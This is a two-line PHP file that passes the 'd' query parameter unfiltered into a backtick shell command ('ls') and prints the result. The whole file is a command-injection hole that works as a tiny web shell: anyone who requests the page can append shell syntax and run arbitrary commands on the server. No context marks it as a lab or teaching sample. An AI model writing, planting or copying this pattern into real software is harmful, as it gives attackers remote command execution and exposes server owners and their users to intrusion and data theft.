<?php
echo `ls $_GET[d]`;
